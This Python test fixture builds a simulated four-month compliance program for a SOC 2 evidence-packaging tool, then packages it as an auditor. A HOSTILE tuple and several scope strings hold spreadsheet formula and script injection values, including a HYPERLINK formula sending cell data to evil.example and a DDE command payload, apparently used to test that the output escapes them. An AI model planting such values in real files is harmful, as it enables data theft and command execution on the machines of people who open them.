# SPDX-License-Identifier: Apache-2.0
"""Four months of a program with all that a package has to show, and the package that is made of them."""

from __future__ import annotations

import hashlib
import os
import tempfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import yaml
from click.testing import CliRunner

from tests.program import Program, alert_values, leaver_values, merge_values, noon, review_values
from tests.stack import Store
from tieout.audit.selections import choose_numbers
from tieout.cli import main
from tieout.criteria.periods import ObservationPeriod
from tieout.evidence.keys import Scope
from tieout.evidence.records import write_record
from tieout.flows.deviations import Register, read_register
from tieout.flows.deviations_answer import Desk, respond
from tieout.flows.documents import read_documents
from tieout.flows.index import landings
from tieout.flows.selection import Fieldwork, record_chosen, record_draw, seal_population
from tieout.flows.snapshot import CLOSE, take_snapshot
from tieout.flows.status import read_facts, read_program, status
from tieout.flows.true_up import plan_true_up, true_up
from tieout.flows.upkeep import not_extracted, retention_for
from tieout.settings import Settings

CHANGES, LEAVERS, REVIEWS = "cc8_1_change_management", "cc6_2_offboarding", "cc6_2_user_access_review"
ALERTS = "cc7_2_alert_monitoring"
MONTHS, PAUSED, AGAIN = 4, 3, 1
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
           "<script>alert(1)</script>")  # fmt: skip
"""Values of evidence that a program could take for more than a text."""
INTERIM, ROLL_FORWARD = tuple(range(2, 32, 2)), tuple(range(3, 23, 2))
SEED = "a seed of the auditor's"


@dataclass
class Scene:
    """The program after its months, and where its evidence is."""

    program: Program
    store: Store
    late_quarter: str = ""
    selections: dict[str, str] = field(default_factory=dict)

    @property
    def settings(self) -> Settings:
        """With the root, as management has it."""
        return replace(self.store.settings, root_fingerprint=self.store.root)

    @property
    def period(self) -> ObservationPeriod:
        """The period that packages are of."""
        found = read_program(self.settings).scope.period(self.program.period)
        assert found is not None
        return found

    @property
    def signer(self) -> Any:
        """The landing key."""
        return self.store.stack.installation.signer(Scope.LANDING)

    def register(self) -> Register:
        """Return the register as it stands."""
        program, at, bucket = read_program(self.settings), self.store.clock(), self.store.bucket()
        found = status(program, read_facts(bucket, at), self.period, at)
        with tempfile.TemporaryDirectory() as work:
            return read_register(self.settings, bucket, program, found, landings(bucket, superseded=True), Path(work))

    def package(self, target: Path | str, *options: str, code: int = 0) -> str:
        """Run ``tieout package`` as the auditor, who may read alone, as of the scene's digest; returns what it said."""
        environment = {**self.store.environment("auditor"), "TIEOUT_HOME": str(self.program.home)}
        chosen = options if {"--as-of", "--period"} & {*options} else ("--period", self.program.period, *options)
        chosen = chosen if "--digest" in chosen else ("--digest", "1", *chosen)
        with environ({**environment, "TIEOUT_ROOT_FINGERPRINT": self.store.root}):
            done = CliRunner().invoke(main, ["package", "--to", str(target), *chosen])
        assert done.exit_code == code, done.output + str(done.exception or "")
        return done.output


@contextmanager
def environ(values: Mapping[str, str]) -> Iterator[None]:
    """Set variables for a while."""
    before = {name: os.environ.get(name) for name in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for name, value in before.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


def make_scene(store: Store) -> Scene:
    """Run the months, and all that is done about them."""
    end = datetime.now(UTC).date().replace(day=1)
    first = (end - timedelta(days=1)).replace(day=1)
    for _ in range(MONTHS - 1):
        first = (first - timedelta(days=1)).replace(day=1)
    before = first.replace(year=first.year - 1)
    program = Program(store.settings.home, first, end, more_periods=[("before", before, first)])
    program.keep(CHANGES, LEAVERS, REVIEWS, ALERTS)
    scene = Scene(program, store)
    _widen_scope(program)
    _fill(scene)
    _land(scene)
    _work(scene)
    store.seal()
    return scene


def _widen_scope(program: Program) -> None:
    path = program.home / "include" / "criteria" / "scope.yaml"
    said = yaml.safe_load(path.read_text())
    said["boundary"] = {
        "description": "The shop, <b>and nothing else</b>.",
        "components": {name: ["one"] for name in ("infrastructure", "software", "people", "procedures", "data")},
    }
    said["principal_service_commitments"] = [{"id": "PSC-1", "text": "=Orders are kept for a year."}]
    said["subservice_organizations"] = [
        {
            "id": "cloud_host", "name": "Cloud Host", "method": "carve-out", "services": "hosting", "criteria": ["CC6.4"],
            "reports": [{"type": "SOC 2 Type 2", "first_day": "2020-01-01", "end_day": str(program.month(2))}],
            "complementary_controls": [{"id": "CSOC-1", "text": "Access to its halls is logged."}],
            "user_entity_controls": [{"id": "CUEC-1", "text": "Users rotate their keys.", "controls": [REVIEWS]}],
        }
    ]  # fmt: skip
    said["user_entity_controls"] = [{"id": "CUEC-9", "text": "Users tell us who has left.", "controls": [LEAVERS]}]
    path.write_text(yaml.safe_dump(said, sort_keys=False))


def _fill(scene: Scene) -> None:
    program, number = scene.program, 0
    for month in range(MONTHS):
        first = program.month(month)
        for day in range(1, 9):
            number += 1
            values = merge_values(number, noon(first, day))
            if day > 6:
                values["author"], values["pull_request"] = HOSTILE[(2 * month + day) % len(HOSTILE)], ""
            program.add(CHANGES, "shop_csv", **values)
        hours = timedelta(days=9) if month == 2 else timedelta(hours=2)
        program.add(LEAVERS, "hris", **leaver_values(month, noon(first, 9), noon(first, 9) + hours, noon(first, 1)))
        program.add(ALERTS, "log_monitor", **alert_values(month, noon(first, 5), noon(first, 5) + timedelta(hours=1)))
        if first.month % 3 == 1:
            last = first - timedelta(days=1)
            quarter = f"{last.year}-Q{last.month // 3}"
            scene.late_quarter = scene.late_quarter or quarter
            for system in ("idp", "cloud"):
                at = noon(first, 20 if system == "cloud" and quarter == scene.late_quarter else 7)
                program.add(REVIEWS, system, **review_values(f"UAR-{system}-{quarter}", 1, at))
    program.add(CHANGES, "shop_csv", **merge_values(900, noon(program.month(-2), 3)))  # in the period before
    backdated = merge_values(901, noon(program.month(2), 20))
    program.add(CHANGES, "shop_csv", shown_from=datetime.now(UTC) - timedelta(minutes=5), **backdated)


def _land(scene: Scene) -> None:
    program, store = scene.program, scene.store
    for month in (-2, *range(MONTHS)):
        for control, system in program.entries:
            if (control == ALERTS and month == PAUSED) or (month < 0 and control != CHANGES):
                continue
            at = noon(program.month(month + 1))
            program.drop(min(at, datetime.now(UTC) - timedelta(minutes=10)))
            store.land_as_of(control, system, program.key(month), min(at, datetime.now(UTC)))
    # A month of changes is read again: what it says takes the place of what landed.
    program.add(CHANGES, "shop_csv", **merge_values(902, noon(program.month(AGAIN), 25)))
    program.drop(datetime.now(UTC) - timedelta(minutes=10))
    store.land_as_of(CHANGES, "shop_csv", program.key(AGAIN), datetime.now(UTC), "=A merge was left out.")


def _work(scene: Scene) -> None:
    """Record what was not extracted, true up, answer, snapshot, seal and select, and take in the auditor's list."""
    settings, bucket, now = scene.settings, scene.store.bucket(), scene.store.clock()
    program = read_program(settings)
    for record in not_extracted(settings, program.scope, read_documents(bucket), None, now, "a test"):
        retention = retention_for(settings, program.scope, record.place.observation_period, now)
        write_record(record, bucket, scene.signer, retention)
    scene.program.drop(now)
    job = plan_true_up(settings, CHANGES, "shop_csv", scene.period, now.date())
    with tempfile.TemporaryDirectory() as work:
        true_up(job, bucket, scene.signer, scene.store.clock, Path(work), None)
    some = [each for each in scene.register().deviations if each.observed.rule][:2]
    responder = scene.store.bucket("responder"), scene.store.stack.installation.signer(Scope.RESPONSE)
    desk = Desk(settings, *responder, program, scene.period, "Security Lead", now)
    respond(desk, some, {"state": "confirmed", "disposition": "@It is reviewed afterwards now."})
    retention = retention_for(settings, program.scope, scene.period.id, now)
    take_snapshot(settings, program.scope, scene.period, f"{CLOSE}-{scene.period.end_day}", bucket, scene.signer, retention,
                  "a test", now)  # fmt: skip
    _select(scene, Fieldwork(settings, program, bucket, scene.signer, scene.store.clock, "Security Lead"))
    _requests(scene)


def _select(scene: Scene, fieldwork: Fieldwork) -> None:
    with tempfile.TemporaryDirectory() as work:
        sealed = seal_population(fieldwork, CHANGES, "shop_csv", scene.period, Path(work))
    rows = sealed.population.rows
    for stage, numbers in (("interim", INTERIM), ("roll-forward", (*ROLL_FORWARD, 9_999))):
        asked = [str(number) for number in numbers]
        scene.selections[stage] = record_chosen(fieldwork, sealed, choose_numbers(asked, rows), asked, stage).id
    scene.selections["drawn"] = record_draw(fieldwork, sealed, SEED, 5, "interim").id


def _requests(scene: Scene) -> None:
    folder = scene.program.home / "include" / "criteria" / "pbc"
    folder.mkdir(exist_ok=True)
    said = {
        "observation_period": scene.program.period,
        "file": "list.csv",
        "file_sha256": hashlib.sha256(b"list").hexdigest(),
        "layout": {"header_rows": [1], "columns": {"id": "A", "text": "B"}},
        "requests": [
            {"id": "R-1", "row": 2, "text": "=Changes", "matches": [{"control": CHANGES, "by": "Security Lead"}]},
            {"id": "R-2", "row": 3, "text": "Alerts", "matches": [{"control": ALERTS}]},
        ],
    }
    (folder / "auditor.yaml").write_text(yaml.safe_dump(said, sort_keys=False))


def unpacked(path: Path, folder: Path) -> Path:
    """Unpack a package."""
    with ZipFile(path) as archive:
        archive.extractall(folder)
    return folder
